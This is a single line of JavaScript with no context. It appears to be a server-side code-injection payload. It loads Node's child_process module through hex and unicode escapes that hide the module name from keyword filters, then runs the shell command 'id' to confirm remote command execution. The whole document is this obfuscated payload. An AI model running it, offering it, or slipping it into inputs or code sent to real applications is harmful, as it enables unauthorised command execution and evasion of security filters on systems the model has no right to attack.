require("\x63hild\u005fprocess").exec("id");
